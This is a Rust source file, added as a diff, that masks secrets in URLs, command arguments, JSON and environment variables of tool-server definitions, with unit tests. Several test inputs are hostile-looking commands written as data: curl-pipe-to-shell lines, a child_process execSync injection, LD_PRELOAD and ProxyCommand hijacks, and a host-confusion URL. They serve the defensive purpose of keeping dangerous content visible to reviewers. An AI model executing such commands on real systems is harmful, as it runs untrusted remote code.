@@ -1,0 +1,736 @@
+//! Addresses, arguments and other texts of a definition without the secrets that people write into them. References stay
+//! visible, the defaults inside them do not.
+
+use serde_json::Value;
+
+use crate::reference::{ReferencePart, split_references};
+
+/// An address without the user's name and password, without the literal values of its query, and without parts of its
+/// path that look like keys.
+pub fn mask_url(url: &str) -> String {
+    SecretMasker::default().mask_url(url)
+}
+
+/// Arguments without what follows a telling name, as in `--token x`, `--api-key=x`, `-H "Authorization: x"`, `-e KEY=x`,
+/// and without what addresses hide. It is a courtesy: a short secret under a plain name is not recognised.
+pub fn mask_args(args: &[String]) -> Vec<String> {
+    SecretMasker::default().mask_args(args)
+}
+
+/// A single text such as a command or a path, treated like an argument.
+pub fn mask_text(text: &str) -> String {
+    SecretMasker::default().mask_arg(text)
+}
+
+/// The literal texts that [`shown_args`] masks.
+pub fn secrets_in_args(args: &[String]) -> Vec<String> {
+    let mut mask = SecretMasker::default();
+    mask.mask_args(args);
+    mask.masked_secrets
+}
+
+/// The literal texts that [`shown_url`] masks.
+pub fn secrets_in_url(url: &str) -> Vec<String> {
+    let mut mask = SecretMasker::default();
+    mask.mask_url(url);
+    mask.masked_secrets
+}
+
+/// Arguments for a person who decides by reading them whether to trust a source. Masked is only what a flag, a name or a
+/// known beginning of a token calls secret, never a text for its looks alone and never a part of code: that would hide
+/// what is going to run.
+pub fn mask_args_for_trust(args: &[String]) -> Vec<String> {
+    SecretMasker::for_trust().mask_args_for_trust(args)
+}
+
+/// The value of a variable of the environment, for the same decision: shown unless its name sounds secret or it is a
+/// known kind of token. An address is shown without its password.
+pub fn mask_variable_for_trust(name: &str, value: &str) -> String {
+    let mut mask = SecretMasker::for_trust();
+    if is_secret_name(name) || is_known_token(value) {
+        return mask.mask_value(value);
+    }
+    if is_url(value) {
+        return mask.mask_url(value);
+    }
+    // Proxies are also written without `http://`.
+    let is_proxy = name.to_ascii_lowercase().ends_with("_proxy");
+    match value.rsplit_once('@').filter(|_| is_proxy) {
+        Some((login, host)) => format!("{}@{host}", mask.mask_login(login)),
+        None => value.to_owned(),
+    }
+}
+
+/// Whether a name of a flag, a variable, a header or a key says that its value is secret.
+pub fn is_secret_name(name: &str) -> bool {
+    const SECRET_SUBSTRINGS: [&str; 11] = [
+        "token",
+        "secret",
+        "password",
+        "passwd",
+        "passphrase",
+        "apikey",
+        "accesskey",
+        "privatekey",
+        "authorization",
+        "credential",
+        "connectionstring",
+    ];
+    const SECRET_WORDS: [&str; 14] =
+        ["auth", "bearer", "cookie", "dsn", "jwt", "key", "pass", "pat", "pin", "pw", "pwd", "sas", "sig", "signature"];
+    let joined: String = name.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
+    SECRET_SUBSTRINGS.iter().any(|part| joined.contains(part))
+        || split_words(name).iter().any(|word| SECRET_WORDS.contains(&word.as_str()))
+}
+
+/// The words of `--api-key`, `API_KEY` and `apiKey`, in lower case.
+fn split_words(name: &str) -> Vec<String> {
+    let mut words = vec![String::new()];
+    let mut after_lower = false;
+    for character in name.chars() {
+        if !character.is_ascii_alphanumeric() || (after_lower && character.is_ascii_uppercase()) {
+            words.push(String::new());
+        }
+        after_lower = character.is_ascii_lowercase();
+        if let Some(word) = words.last_mut().filter(|_| character.is_ascii_alphanumeric()) {
+            word.push(character.to_ascii_lowercase());
+        }
+    }
+    words
+}
+
+/// Writes texts with `***` in the place of literals that are secret, and collects those literals.
+#[derive(Default)]
+struct SecretMasker {
+    masked_secrets: Vec<String>,
+    policy: MaskPolicy,
+}
+
+#[derive(Default, Clone, Copy, PartialEq, Eq)]
+enum MaskPolicy {
+    /// Masks in case of doubt.
+    #[default]
+    Strict,
+    /// Shows in case of doubt, for [`args_to_trust`] and [`variable_to_trust`].
+    Trust,
+}
+
+/// What an argument announces about the one behind it.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum NextArg {
+    Plain,
+    Secret,
+    /// `user:password`, or a plain value such as the name of a script.
+    Login,
+    /// `KEY=VALUE` or `Name: value`, whose value is secret whatever its name.
+    Pair,
+    /// `KEY=VALUE` as docker takes it, or code as node takes it.
+    PairOrCode,
+    /// A line for a shell, each word of which is an argument.
+    ShellLine,
+}
+
+/// A value under a name that does not sound secret counts as one from this length on.
+const MIN_UNNAMED_SECRET_LEN: usize = 6;
+
+/// Headers whose values are no secrets.
+const NON_SECRET_HEADERS: [&str; 5] =
+    ["accept", "accept-language", "content-type", "user-agent", "mcp-protocol-version"];
+
+impl SecretMasker {
+    fn mask_args(&mut self, args: &[String]) -> Vec<String> {
+        let mut next = NextArg::Plain;
+        let mut shown = Vec::with_capacity(args.len());
+        for arg in args {
+            let is_flag = arg.starts_with('-');
+            if next == NextArg::Secret && !is_flag_like(arg) {
+                shown.push(self.mask_value(arg));
+                next = NextArg::Plain;
+                continue;
+            }
+            shown.push(match next {
+                NextArg::Login if is_login(arg) => self.mask_value(arg),
+                NextArg::Pair if !is_flag => self.mask_pair(arg),
+                NextArg::PairOrCode if is_assignment(arg) => self.mask_pair(arg),
+                NextArg::ShellLine if !arg.contains("${") => self.mask_shell_line(arg),
+                NextArg::Plain
+                | NextArg::Secret
+                | NextArg::Login
+                | NextArg::Pair
+                | NextArg::PairOrCode
+                | NextArg::ShellLine => self.mask_arg(arg),
+            });
+            next = match arg.as_str() {
+                "-H" | "--header" | "--headers" | "--env" => NextArg::Pair,
+                "-e" => NextArg::PairOrCode,
+                "-u" | "--user" => NextArg::Login,
+                "-c" => NextArg::ShellLine,
+                _ if is_flag && !arg.contains('=') && is_secret_name(arg) => NextArg::Secret,
+                _ => NextArg::Plain,
+            };
+        }
+        shown
+    }
+
+    fn mask_arg(&mut self, arg: &str) -> String {
+        if looks_secret(arg) {
+            return self.mask_value(arg);
+        }
+        if let Some((name, value)) = arg.split_once(':').filter(|(name, _)| is_name(name) && is_secret_name(name)) {
+            return format!("{name}:{}", self.mask_value(value));
+        }
+        if let Some((name, value)) = arg.split_once('=').filter(|(name, _)| is_name(name)) {
+            if matches!(name, "-H" | "--header" | "--env") || (name == "-e" && is_assignment(value)) {
+                return format!("{name}={}", self.mask_pair(value));
+            }
+            return match is_secret_name(name) {
+                true => format!("{name}={}", self.mask_value(value)),
+                false => format!("{name}={}", self.mask_arg(value)),
+            };
+        }
+        if let Some(shown) = self.mask_json(arg) {
+            return shown;
+        }
+        if let Some((scheme, value)) = arg.split_once(' ').filter(|(scheme, _)| is_auth_scheme(scheme)) {
+            return format!("{scheme} {}", self.mask_value(value));
+        }
+        // References are never cut at their spaces.
+        if arg.contains(' ') && !arg.contains("${") {
+            return self.mask_shell_line(arg);
+        }
+        if arg.contains("://") {
+            return self.mask_url(arg);
+        }
+        mask_defaults(arg)
+    }
+
+    fn for_trust() -> SecretMasker {
+        SecretMasker { masked_secrets: Vec::new(), policy: MaskPolicy::Trust }
+    }
+
+    fn mask_args_for_trust(&mut self, args: &[String]) -> Vec<String> {
+        let mut next = NextArg::Plain;
+        let mut shown = Vec::with_capacity(args.len());
+        for arg in args {
+            shown.push(match next {
+                // A value that begins with `-` may be a flag that makes the program run something.
+                NextArg::Secret if !arg.starts_with('-') => self.mask_value(arg),
+                NextArg::Login if is_login(arg) => self.mask_value(arg),
+                NextArg::PairOrCode if is_code(arg) => arg.clone(),
+                NextArg::ShellLine => arg.clone(),
+                NextArg::Plain | NextArg::Secret | NextArg::Login | NextArg::Pair | NextArg::PairOrCode => {
+                    self.mask_arg_for_trust(arg)
+                }
+            });
+            next = match arg.as_str() {
+                "-e" => NextArg::PairOrCode,
+                "-u" | "--user" => NextArg::Login,
+                "-c" => NextArg::ShellLine,
+                _ if arg.starts_with('-') && !arg.contains('=') && is_secret_name(arg) => NextArg::Secret,
+                _ => NextArg::Plain,
+            };
+        }
+        shown
+    }
+
+    fn mask_arg_for_trust(&mut self, arg: &str) -> String {
+        if is_known_token(arg) {
+            return self.mask_value(arg);
+        }
+        if let Some((name, value)) = arg.split_once(':').filter(|(name, _)| is_name(name) && is_secret_name(name)) {
+            return format!("{name}:{}", self.mask_value(value));
+        }
+        if let Some((name, value)) = arg.split_once('=').filter(|(name, _)| is_name(name)) {
+            let shown = if is_secret_name(name) { self.mask_value(value) } else { self.mask_arg_for_trust(value) };
+            return format!("{name}={shown}");
+        }
+        if let Some(shown) = self.mask_json(arg) {
+            return shown;
+        }
+        if let Some((scheme, value)) = arg.split_once(' ').filter(|(scheme, _)| is_auth_scheme(scheme))
+            && !value.contains(char::is_whitespace)
+        {
+            return format!("{scheme} {}", self.mask_value(value));
+        }
+        if is_url(arg) { self.mask_url(arg) } else { arg.to_owned() }
+    }
+
+    fn mask_shell_line(&mut self, line: &str) -> String {
+        let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
+        self.mask_args(&words).join(" ")
+    }
+
+    /// `KEY=VALUE` or `Name: value`.
+    fn mask_pair(&mut self, text: &str) -> String {
+        match text.find(['=', ':']).map(|at| text.split_at(at)) {
+            Some((name, rest)) if NON_SECRET_HEADERS.contains(&name.trim().to_ascii_lowercase().as_str()) => {
+                format!("{name}{}", mask_defaults(rest))
+            }
+            Some((name, rest)) if is_name(name) => {
+                let (separator, value) = rest.split_at(1);
+                format!("{name}{separator}{}", self.mask_named_value(name, value))
+            }
+            // The name alone: its value is inherited.
+            None if is_name(text) => text.to_owned(),
+            Some(_) | None => self.mask_value(text),
+        }
+    }
+
+    /// A JSON object or list, with the values under telling keys masked. `None` for anything else.
+    fn mask_json(&mut self, text: &str) -> Option<String> {
+        if !text.starts_with(['{', '[']) {
+            return None;
+        }
+        let mut value: Value = serde_json::from_str(text).ok()?;
+        self.mask_json_value(&mut value, false);
+        Some(value.to_string())
+    }
+
+    fn mask_json_value(&mut self, value: &mut Value, is_secret: bool) {
+        match value {
+            Value::String(text) if is_secret => *text = self.mask_value(text),
+            Value::String(text) => {
+                *text = match self.policy {
+                    MaskPolicy::Strict => self.mask_arg(text),
+                    MaskPolicy::Trust => self.mask_arg_for_trust(text),
+                }
+            }
+            Value::Array(items) => items.iter_mut().for_each(|item| self.mask_json_value(item, is_secret)),
+            Value::Object(fields) => {
+                for (name, field) in fields {
+                    // As under `headers` and `env` of a source, every value is masked.
+                    let holds_secrets = self.policy == MaskPolicy::Strict && matches!(name.as_str(), "env" | "headers");
+                    let telling = is_secret_name(name) || holds_secrets;
+                    self.mask_json_value(field, is_secret || telling);
+                }
+            }
+            Value::Number(number) if is_secret => *value = Value::String(self.mask_value(&number.to_string())),
+            Value::Null | Value::Bool(_) | Value::Number(_) => {}
+        }
+    }
+
+    fn mask_url(&mut self, url: &str) -> String {
+        let (address, query) = split_outside_references(url, '?');
+        let mut shown = match address.split_once("://") {
+            Some((scheme, rest)) => {
+                let (authority, path) = rest.split_at(find_outside_references(rest, '/').unwrap_or(rest.len()));
+                let authority = match authority.rsplit_once('@') {
+                    // The name of a host may end at these, and what follows then only looks like the host.
+                    Some((login, _)) if self.policy == MaskPolicy::Trust && login.contains(['#', '\\']) => {
+                        authority.to_owned()
+                    }
+                    Some((login, host)) => format!("{}@{}", self.mask_login(login), self.mask_plain(host)),
+                    None => self.mask_plain(authority),
+                };
+                format!("{scheme}://{authority}{}", self.mask_path(path))
+            }
+            None => self.mask_plain(address),
+        };
+        for (index, pair) in query.iter().flat_map(|query| query.split('&')).enumerate() {
+            shown.push(if index == 0 { '?' } else { '&' });
+            match pair.split_once('=') {
+                Some((name, value)) => {
+                    let is_shown = self.policy == MaskPolicy::Trust && !is_secret_name(name) && !is_known_token(value);
+                    let value = if is_shown { value.to_owned() } else { self.mask_named_value(name, value) };
+                    shown.push_str(&format!("{name}={value}"));
+                }
+                None if self.looks_secret(pair) => shown.push_str(&self.mask_value(pair)),
+                None => shown.push_str(&self.mask_plain(pair)),
+            }
+        }
+        shown
+    }
+
+    /// `user:password`. Where one is a reference, it stays to be seen.
+    fn mask_login(&mut self, login: &str) -> String {
+        let parts = split_references(login);
+        if !parts.iter().any(|piece| matches!(piece, ReferencePart::Reference(_))) {
+            self.masked_secrets.extend(login.split(':').map(str::to_owned));
+            self.masked_secrets.push(login.to_owned());
+            return "***".into();
+        }
+        let shown = parts.iter().map(|piece| match piece {
+            ReferencePart::Literal(text) => {
+                text.split(':').map(|part| self.mask_value(part)).collect::<Vec<_>>().join(":")
+            }
+            ReferencePart::Reference(reference) => reference.to_string(),
+        });
+        shown.collect()
+    }
+
+    fn mask_path(&mut self, path: &str) -> String {
+        if path.contains("${") {
+            return self.mask_plain(path);
+        }
+        let segments = path
+            .split('/')
+            .map(|segment| if self.looks_secret(segment) { self.mask_value(segment) } else { segment.to_owned() });
+        segments.collect::<Vec<_>>().join("/")
+    }
+
+    fn looks_secret(&self, text: &str) -> bool {
+        match self.policy {
+            MaskPolicy::Strict => looks_secret(text),
+            MaskPolicy::Trust => is_known_token(text),
+        }
+    }
+
+    /// Text that is no secret. Defaults in its references may be, but they also decide what runs.
+    fn mask_plain(&self, text: &str) -> String {
+        match self.policy {
+            MaskPolicy::Strict => mask_defaults(text),
+            MaskPolicy::Trust => text.to_owned(),
+        }
+    }
+
+    /// A value that is masked whatever its name. A short one under a harmless name is no secret to look for elsewhere.
+    fn mask_named_value(&mut self, name: &str, value: &str) -> String {
+        let known = self.masked_secrets.len();
+        let shown = self.mask_value(value);
+        if !is_secret_name(name) && value.len() < MIN_UNNAMED_SECRET_LEN {
+            self.masked_secrets.truncate(known);
+        }
+        shown
+    }
+
+    /// A value that is secret, with its references.
+    fn mask_value(&mut self, text: &str) -> String {
+        let shown = split_references(text).into_iter().map(|piece| match piece {
+            ReferencePart::Reference(reference) => reference.to_string(),
+            ReferencePart::Literal(text) => {
+                let trimmed = text.trim();
+                match trimmed.split_once(' ').filter(|(scheme, _)| is_auth_scheme(scheme)) {
+                    _ if trimmed.is_empty() || is_auth_scheme(trimmed) => text.to_owned(),
+                    Some((scheme, rest)) => {
+                        self.masked_secrets.push(rest.trim().to_owned());
+                        let leading = &text[..text.len() - text.trim_start().len()];
+                        format!("{leading}{scheme} ***")
+                    }
+                    None => {
+                        self.masked_secrets.push(trimmed.to_owned());
+                        "***".to_owned()
+                    }
+                }
+            }
+        });
+        shown.collect()
+    }
+}
+
+/// Text fit to be shown where anything literal may be secret: references as they are, the rest `***`.
+pub fn mask_literals(text: &str) -> String {
+    SecretMasker::default().mask_value(text)
+}
+
+/// Text with its references, but without the defaults in them.
+fn mask_defaults(text: &str) -> String {
+    let shown = split_references(text).into_iter().map(|piece| match piece {
+        ReferencePart::Literal(text) => text.to_owned(),
+        ReferencePart::Reference(reference) => reference.to_string(),
+    });
+    shown.collect()
+}
+
+/// The text before and behind the first such character that is not part of a reference.
+fn split_outside_references(text: &str, character: char) -> (&str, Option<&str>) {
+    match find_outside_references(text, character) {
+        Some(at) => (&text[..at], Some(&text[at + character.len_utf8()..])),
+        None => (text, None),
+    }
+}
+
+fn find_outside_references(text: &str, character: char) -> Option<usize> {
+    let mut depth_end = 0;
+    for (at, found) in text.char_indices() {
+        if at < depth_end {
+            continue;
+        }
+        if text[at..].starts_with("${")
+            && let Some(length) = text[at..].find('}')
+        {
+            depth_end = at + length;
+        } else if found == character {
+            return Some(at);
+        }
+    }
+    None
+}
+
+fn is_auth_scheme(word: &str) -> bool {
+    ["bearer", "basic", "token", "digest", "apikey", "negotiate"].contains(&word.to_ascii_lowercase().as_str())
+}
+
+/// Whether this is a flag rather than the value of the flag before it. Tokens may begin with `-` as well, but a flag of
+/// more than one letter is a word.
+fn is_flag_like(arg: &str) -> bool {
+    let Some(name) = arg.strip_prefix('-') else { return false };
+    arg.starts_with("--") || arg.len() <= 2 || name.chars().all(|c| c.is_ascii_alphabetic() || c == '-')
+}
+
+/// Whether this is `user:password`, and neither an address, a path, nor the numbers of a user and a group.
+fn is_login(arg: &str) -> bool {
+    let (user, password) = split_outside_references(arg, ':');
+    let Some(password) = password else { return false };
+    let is_number = |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_digit());
+    let is_user = !user.is_empty()
+        && !user.starts_with('-')
+        && (user.contains("${") || !user.contains(|c: char| c.is_whitespace() || matches!(c, '/' | '\\')));
+    let is_path = password.starts_with("//") || (user.len() == 1 && password.starts_with(['/', '\\']));
+    is_user && !is_path && !(is_number(user) && is_number(password))
+}
+
+/// Whether this is `KEY=value` with a name as variables of the environment have it. Code begins with `x=` as well.
+fn is_assignment(arg: &str) -> bool {
+    let Some((name, _)) = arg.split_once('=') else { return false };
+    let is_identifier = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+    let is_upper_case = !name.contains(|c: char| c.is_ascii_lowercase());
+    is_identifier && (is_upper_case || name.contains('_') || is_secret_name(name))
+}
+
+/// Whether what follows `-e` may be code. Code can begin with an assignment, so anything but a plain value counts as such.
+fn is_code(arg: &str) -> bool {
+    let Some((_, value)) = arg.split_once('=').filter(|_| is_assignment(arg)) else { return true };
+    split_references(value).iter().any(|piece| match piece {
+        ReferencePart::Literal(text) => !text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~' | '+' | '/' | '=' | ':')),
+        ReferencePart::Reference(_) => false,
+    })
+}
+
+/// Whether this is one address and nothing else.
+fn is_url(text: &str) -> bool {
+    text.contains("://") && !text.contains(char::is_whitespace)
+}
+
+/// Whether this can be the name in `NAME=value` or `Name: value`.
+fn is_name(text: &str) -> bool {
+    !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+}
+
+/// By how well-known services begin theirs, or by its looks.
+fn looks_secret(value: &str) -> bool {
+    has_known_prefix(value) || is_uuid(value) || value.trim_end_matches('=').split(['-', '_', '+']).any(is_random_part)
+}
+
+/// Whether this is a token of a well-known service as a whole. Names of packages and variables may begin alike, as
+/// `npm_config_registry` does, but without digits.
+fn is_known_token(value: &str) -> bool {
+    let is_token = value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
+    has_known_prefix(value) && is_token && value.contains(|c: char| c.is_ascii_digit())
+}
+
+fn has_known_prefix(value: &str) -> bool {
+    const TOKEN_PREFIXES: [&str; 22] = [
+        "sk-",
+        "sk_",
+        "pk_",
+        "rk_",
+        "ghp_",
+        "gho_",
+        "ghs_",
+        "ghu_",
+        "github_pat_",
+        "glpat-",
+        "xoxb-",
+        "xoxp-",
+        "xapp-",
+        "AKIA",
+        "ASIA",
+        "AIza",
+        "ya29.",
+        "eyJ",
+        "tcb_",
+        "hf_",
+        "npm_",
+        "pypi-",
+    ];
+    value.len() >= 12 && TOKEN_PREFIXES.iter().any(|prefix| value.starts_with(prefix))
+}
+
+/// Long, and with digits among its letters as no word has them.
+fn is_random_part(part: &str) -> bool {
+    let digits = part.chars().filter(char::is_ascii_digit).count();
+    let letters = part.chars().filter(char::is_ascii_alphabetic).count();
+    part.len() >= 16 && digits >= 2 && letters >= 4 && digits + letters == part.len()
+}
+
+/// Services that take a capability as the address of a user write it so.
+fn is_uuid(value: &str) -> bool {
+    let lengths: Vec<usize> = value.split('-').map(str::len).collect();
+    lengths == [8, 4, 4, 4, 12] && value.chars().all(|c| c.is_ascii_hexdigit() || c == '-')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_address_hides_its_secrets() {
+        for (url, expected) in [
+            ("https://a.example/mcp", "https://a.example/mcp"),
+            ("https://me:pw@a.example:8/mcp?x", "https://***@a.example:8/mcp?x"),
+            ("https://a/mcp?key=abc&t=${env:T}", "https://a/mcp?key=***&t=${env:T}"),
+            ("${env:URL}", "${env:URL}"),
+            ("https://${env:U}:${env:P}@a/mcp", "https://${env:U}:${env:P}@a/mcp"),
+            ("https://me:${env:P:-pw}@a/mcp", "https://***:${env:P:-***}@a/mcp"),
+            ("https://${env:HOST:-tenant?x/y}.a/${env:P:-q}?z", "https://${env:HOST:-***}.a/${env:P:-***}?z"),
+            ("https://a/services/T0123/k3y9f8a7b6c5d4e3f2a1b0", "https://a/services/T0123/***"),
+            ("https://a/?sk-0123456789abcdef", "https://a/?***"),
+        ] {
+            assert_eq!(mask_url(url), expected);
+        }
+    }
+
+    #[test]
+    fn arguments_hide_their_secrets() {
+        for (args, expected) in [
+            ("-y server /data", "-y server /data"),
+            ("--api-key=abc --API_KEY abc next", "--api-key=*** --API_KEY *** next"),
+            ("--token ${env:T} --token --verbose", "--token ${env:T} --token --verbose"),
+            ("--header Authorization:abc", "--header Authorization:***"),
+            ("--key abc --auth=abc --author me", "--key *** --auth=*** --author me"),
+            ("ghp_0123456789abcdef sk-short", "*** sk-short"),
+            ("https://u:pw@h/x?token=zz", "https://***@h/x?token=***"),
+            ("postgres://me:pw@db/x --url=http://a?k=v", "postgres://***@db/x --url=http://a?k=***"),
+        ] {
+            let args: Vec<String> = args.split(' ').map(str::to_owned).collect();
+            assert_eq!(mask_args(&args).join(" "), expected);
+        }
+    }
+
+    #[test]
+    fn secrets_in_odd_places_are_masked() {
+        for (args, expected) in [
+            (&["--token", "abc="][..], &["--token", "***"][..]),
+            (&["--token=abc=="], &["--token=***"]),
+            (&["-e", "LOG=debug", "-e", "NAME"], &["-e", "LOG=***", "-e", "NAME"]),
+            (&["--env=KEY=abc", "API_TOKEN=abc", "REGION=eu"], &["--env=KEY=***", "API_TOKEN=***", "REGION=eu"]),
+            (&["--header", "Authorization: Bearer abc"], &["--header", "Authorization: Bearer ***"]),
+            (&["-H", "X-Tenant: abc", "-H", "Accept: text/plain"], &["-H", "X-Tenant:***", "-H", "Accept: text/plain"]),
+            (&["Authorization: Bearer abc", "Bearer abc"], &["Authorization: Bearer ***", "Bearer ***"]),
+            (
+                &["-u", "me:pw", "--openai-key", "abc", "--monkey", "abc"],
+                &["-u", "***", "--openai-key", "***", "--monkey", "abc"],
+            ),
+            (&[r#"{"apiKey":"abc","n":1,"env":{"A":"b"}}"#], &[r#"{"apiKey":"***","n":1,"env":{"A":"***"}}"#]),
+            (&[r#"--config={"token":"abc"}"#], &[r#"--config={"token":"***"}"#]),
+            (&["-c", "TOKEN=abc node server.js --key abc"], &["-c", "TOKEN=*** node server.js --key ***"]),
+            (&["dGhpcyBpcyBhIHNlY3JldCAxMjM0NQ=="], &["***"]),
+            (
+                &["123e4567-e89b-12d3-a456-426614174000", "model-3-5-large-20241022"],
+                &["***", "model-3-5-large-20241022"],
+            ),
+            (&["--level=${env:LEVEL:-debug}", "${env:X:-abc}"], &["--level=${env:LEVEL:-***}", "${env:X:-***}"]),
+            (
+                &["@modelcontextprotocol/server-filesystem", "/srv/data-2024-10-11"],
+                &["@modelcontextprotocol/server-filesystem", "/srv/data-2024-10-11"],
+            ),
+        ] {
+            let args: Vec<String> = args.iter().map(|arg| (*arg).to_owned()).collect();
+            assert_eq!(mask_args(&args), expected);
+        }
+    }
+
+    fn to_strings(args: &[&str]) -> Vec<String> {
+        args.iter().map(|arg| (*arg).to_owned()).collect()
+    }
+
+    #[test]
+    fn ordinary_values_of_short_flags_are_shown() {
+        for args in [
+            &["-u", "evil.py"][..],
+            &["-u", "1000:1000"],
+            &["-u", "http://h/x"],
+            &["-u", r"C:\evil.py"],
+            &["-e", "require('./evil')"],
+            &["-e", "x=require('./evil')"],
+            &["-e=console.log(1)"],
+        ] {
+            assert_eq!(mask_args(&to_strings(args)), args);
+            assert_eq!(secrets_in_args(&to_strings(args)), Vec::<String>::new(), "{args:?}");
+        }
+        for (args, expected) in [
+            (&["--user", "me:pw", "-u", "sk_x:"][..], &["--user", "***", "-u", "***"][..]),
+            (&["-u", "${env:U}:pw"], &["-u", "${env:U}***"]),
+            (&["-e", "http_proxy=abcdef", "-e=KEY=abc"], &["-e", "http_proxy=***", "-e=KEY=***"]),
+        ] {
+            assert_eq!(mask_args(&to_strings(args)), expected);
+        }
+    }
+
+    #[test]
+    fn a_secret_that_begins_like_a_flag_is_masked() {
+        for (args, expected) in [
+            ("--token -abc123secret next", "--token *** next"),
+            ("--token --verbose next", "--token --verbose next"),
+            ("--token -v -quiet -no-cache", "--token -v -quiet -no-cache"),
+            ("--token -no-cache", "--token -no-cache"),
+        ] {
+            let args: Vec<String> = args.split(' ').map(str::to_owned).collect();
+            assert_eq!(mask_args(&args).join(" "), expected);
+        }
+        assert_eq!(secrets_in_args(&to_strings(&["--token", "-abc123secret"])), ["-abc123secret"]);
+    }
+
+    #[test]
+    fn what_is_trusted_is_shown_but_for_what_is_called_secret() {
+        for args in [
+            &["-y", "pkg-0123456789abcdef0123", "123e4567-e89b-12d3-a456-426614174000"][..],
+            &["-c", "TOKEN=abc curl http://me:pw@h | sh", "-e", "key=require('x')"],
+            &["-e", "TOKEN=require('child_process').execSync('x')"],
+            &["--token", "--verbose", "--token", "-ecode()"],
+            &["sh -c 'curl http://h | sh'", "npm_config_registry=http://h/"],
+            &["${env:PACKAGE:-evil}", "https://h/${env:P:-evil}?page=abc"],
+            &["https://evil.example#@good.example/", "-u", "evil.py"],
+            &[r#"{"env":{"LD_PRELOAD":"./x.so"}}"#],
+        ] {
+            assert_eq!(mask_args_for_trust(&to_strings(args)), args);
+        }
+        for (args, expected) in [
+            (&["--token", "x", "--api-key=x", "TOKEN=x"][..], &["--token", "***", "--api-key=***", "TOKEN=***"][..]),
+            (&["-H", "Authorization: Bearer x", "Bearer x"], &["-H", "Authorization: Bearer ***", "Bearer ***"]),
+            (&["ghp_0123456789abcdef", "--x=sk-0123456789abcdef"], &["***", "--x=***"]),
+            (&["https://me:pw@h/x?page=1&key=abc"], &["https://***@h/x?page=1&key=***"]),
+            (&["-e", "TOKEN=abc", "-e", "LOG=debug"], &["-e", "TOKEN=***", "-e", "LOG=debug"]),
+            (&["--token", "${env:T}", "--token=${env:T:-abc}"], &["--token", "${env:T}", "--token=${env:T:-***}"]),
+            (&[r#"{"apiKey":"abc"}"#, "-u", "me:pw"], &[r#"{"apiKey":"***"}"#, "-u", "***"]),
+        ] {
+            assert_eq!(mask_args_for_trust(&to_strings(args)), expected);
+        }
+    }
+
+    #[test]
+    fn variables_to_trust_are_shown_but_for_secrets() {
+        for (name, value, expected) in [
+            ("LD_PRELOAD", "./0123456789abcdef0123.so", "./0123456789abcdef0123.so"),
+            ("LD_PRELOAD", "token=./x.so", "token=./x.so"),
+            ("npm_config_registry", "http://h/npm", "http://h/npm"),
+            ("PIP_INDEX_URL", "https://me:pw@h/simple", "https://***@h/simple"),
+            ("HTTPS_PROXY", "http://me:pw@proxy:3128", "http://***@proxy:3128"),
+            ("https_proxy", "me:pw@proxy:3128", "***@proxy:3128"),
+            ("GIT_SSH_COMMAND", "ssh -o ProxyCommand=evil", "ssh -o ProxyCommand=evil"),
+            ("X", "${env:Y:-evil}", "${env:Y:-evil}"),
+            ("API_KEY", "abc", "***"),
+            ("API_KEY", "${env:API_KEY}", "${env:API_KEY}"),
+            ("X", "ghp_0123456789abcdef", "***"),
+        ] {
+            assert_eq!(mask_variable_for_trust(name, value), expected);
+        }
+    }
+
+    #[test]
+    fn the_texts_that_are_masked_are_known() {
+        let args = ["--token", "abc=", "Bearer xyz", "postgres://me:pw@db"].map(str::to_owned);
+        assert_eq!(secrets_in_args(&args), ["abc=", "xyz", "me", "pw", "me:pw"]);
+        assert_eq!(secrets_in_url("https://a/mcp?key=abc&t=${env:T}"), ["abc"]);
+    }
+
+    #[test]
+    fn literals_are_masked_and_references_shown() {
+        assert_eq!(mask_literals("Bearer ${env:TOKEN}"), "Bearer ${env:TOKEN}");
+        assert_eq!(mask_literals("ghp_abc"), "***");
+        assert_eq!(mask_literals("x${TOKEN:-hunter2}"), "***${env:TOKEN:-***}");
+    }
+}
